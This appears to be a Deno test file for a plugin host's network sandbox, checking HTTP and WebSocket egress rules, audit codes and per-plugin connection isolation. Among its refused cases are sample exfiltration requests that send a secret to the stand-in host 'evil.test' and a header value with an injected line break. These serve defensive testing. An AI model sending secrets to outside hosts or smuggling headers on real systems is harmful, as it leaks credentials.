import { deepStrictEqual, match, ok, strictEqual } from "node:assert/strict";
import { until } from "./support/gate_fixture.ts";
import { type Dns, loopbackServer, networkHost } from "./support/network_host.ts";

const SECRET = "s3cret";
const DNS: Dns = { "api.example.com": ["127.0.0.1"], "private.example.com": ["10.0.0.1"] };
const HOSTS = { requiredHosts: ["api.example.com", "private.example.com"] };

/** A server that echoes WebSocket messages; `close` closes, `binary` is answered in binary. */
function echo() {
  const sockets = new Set<WebSocket>();
  const server = loopbackServer((request) => {
    if (request.headers.get("upgrade") === null) return new Response("hi");
    const { socket, response } = Deno.upgradeWebSocket(request);
    socket.onopen = () => sockets.add(socket);
    socket.onclose = () => sockets.delete(socket);
    socket.onmessage = ({ data }) => {
      if (data === "close") socket.close(4004, "enough");
      else socket.send(data === "binary" ? new Uint8Array([1, 2, 3]) : data);
    };
    return response;
  });
  return Object.assign(server, { sockets });
}

/** A port of loopback where nobody listens. */
function closedPort(): number {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  listener.close();
  return listener.addr.port;
}

/** What `http_send` is asked for, what the guest reads, and what is written down. */
const SENT: readonly (readonly [string, object, RegExp, readonly string[]])[] = [
  [
    "another host",
    { url: `http://evil.test/?key=${SECRET}` },
    /^host "evil\.test" is not allowed$/,
    [
      "egress.url_not_allowed",
    ],
  ],
  ["a private answer", { url: "http://private.example.com/" }, /not allowed: private\/loopback/, [
    "egress.address_refused",
  ]],
  ["another scheme", { url: "ftp://api.example.com/" }, /^invalid URL scheme "ftp"/, []],
  [
    "a header with a line break",
    { url: "http://api.example.com/", headers: { a: "b\r\nc: d" } },
    /header/,
    [],
  ],
  [
    "a port where nobody listens",
    { url: `http://api.example.com:${closedPort()}/` },
    /^Get ".*": .*connect/,
    [
      "egress.connect_failed",
    ],
  ],
];

Deno.test("http_send is held by the same walls, with upstream's texts", async (t) => {
  await using server = echo();
  await using use = await networkHost({ p: { http: HOSTS } }, DNS);
  await t.step("a declared host answers", async () => {
    const url = `http://api.example.com:${server.port}/`;
    const { result } = await use.ask("p", "http_send", { request: { url } });
    strictEqual((result as { statusCode: number }).statusCode, 200);
  });
  for (const [what, request, text, codes] of SENT) {
    await t.step(what, async () => {
      const before = use.host.audit().at(-1)?.id ?? 0;
      const { error } = await use.ask("p", "http_send", { request });
      match(String(error), text);
      const events = use.host.audit(before);
      deepStrictEqual([...new Set(events.map(({ code }) => code))], codes);
      ok(!JSON.stringify(events).includes(SECRET));
    });
  }
  strictEqual(server.seen.length, 1);
});

Deno.test("a WebSocket goes where its rules lead, and nowhere else", async (t) => {
  await using server = echo();
  await using use = await networkHost({
    p: { websocket: HOSTS },
    web: { http: { requiredHosts: ["api.example.com"] }, websocket: { requiredHosts: [] } },
  }, DNS);
  const refused: readonly (readonly [string, string, RegExp, readonly string[]])[] = [
    [
      "p",
      `ws://evil.test:${server.port}/?key=${SECRET}`,
      /^host "evil\.test:\d+" is not allowed$/,
      [
        "egress.url_not_allowed",
      ],
    ],
    ["p", `ws://127.0.0.1:${server.port}/`, /^host "127.* is not allowed$/, [
      "egress.url_not_allowed",
    ]],
    ["p", `ws://private.example.com/`, /^host "private.* is not allowed$/, [
      "egress.address_refused",
    ]],
    ["p", `http://api.example.com:${server.port}/`, /^invalid URL scheme/, []],
    ["p", `ws://u:p@api.example.com:${server.port}/`, /malformed ws or wss URL/, []],
    ["web", `ws://api.example.com:${server.port}/`, /is not allowed$/, ["egress.url_not_allowed"]],
  ];
  for (const [plugin, url, text, codes] of refused) {
    await t.step(`${plugin}: ${url.replace(/:\d+/, "")}`, async () => {
      const before = use.host.audit().at(-1)?.id ?? 0;
      const { error } = await use.ask(plugin, "websocket_connect", { url });
      match(String(error), text);
      const events = use.host.audit(before);
      deepStrictEqual([...new Set(events.map(({ code }) => code))], codes);
      ok(!JSON.stringify(events).includes(SECRET));
    });
  }
  strictEqual(server.seen.length, 0);
});

Deno.test("a connection is its plugin's own, and outlives the call that opened it", async (t) => {
  await using server = echo();
  await using use = await networkHost({ a: { websocket: HOSTS }, b: { websocket: HOSTS } }, DNS);
  const url = `ws://api.example.com:${server.port}/`;
  const open = (plugin: string, connectionId: string) =>
    use.ask(plugin, "websocket_connect", { url, connectionId });
  deepStrictEqual(await open("a", "one"), { newConnectionId: "one" });

  await t.step("messages come to the plugin that opened it, in order", async () => {
    for (const message of ["1", "2", "3"]) {
      await use.ask("a", "websocket_sendtext", { connectionId: "one", message });
    }
    await until(() => use.events("a").length === 3);
    deepStrictEqual(
      use.events("a"),
      ["1", "2", "3"].map((message) => ({ connectionId: "one", message })),
    );
    deepStrictEqual(use.events("b"), []);
  });
  await t.step("another plugin does not know its id, and can have the same", async () => {
    for (const name of ["websocket_sendtext", "websocket_closeconnection"]) {
      match(String((await use.ask("b", name, { connectionId: "one" })).error), /not found/);
    }
    deepStrictEqual(await open("b", "one"), { newConnectionId: "one" });
    match(String((await open("a", "one")).error), /already exists/);
  });
  await t.step("what one closes stays open for the other", async () => {
    await use.ask("b", "websocket_closeconnection", { connectionId: "one", code: 1000 });
    await until(() => server.sockets.size === 1);
    deepStrictEqual(use.events("b"), [{ connectionId: "one", code: 1000, reason: "" }]);
    await use.ask("a", "websocket_sendtext", { connectionId: "one", message: "close" });
    await until(() => use.events("a").length === 4);
    match(String(use.events("a").at(-1)?.error), /close 4004: enough/);
  });
  await t.step("unloading closes what is open", async () => {
    await open("a", "two");
    await until(() => server.sockets.size === 1);
    await use.host.disable("a");
    await until(() => server.sockets.size === 0);
  });
});

Deno.test("a callback that closes its own connection does not deadlock when the pool is full", async () => {
  await using server = echo();
  const limits = { pool: { cells: 1 } };
  await using use = await networkHost({ p: { websocket: HOSTS } }, DNS, { limits });
  const url = `ws://api.example.com:${server.port}/`;
  await use.ask("p", "websocket_connect", { url, connectionId: "one" });
  await use.ask("p", "websocket_sendtext", { connectionId: "one", message: "binary" });
  await until(() => use.events("p").length === 2);
  // The close callback ran inside the other one. Its code 0 cannot be sent: the connection ends all the same.
  deepStrictEqual(use.events("p").map((event) => Object.keys(event).join()), [
    "connectionId,code,reason",
    "connectionId,data",
  ]);
  await until(() => server.sockets.size === 0);
});
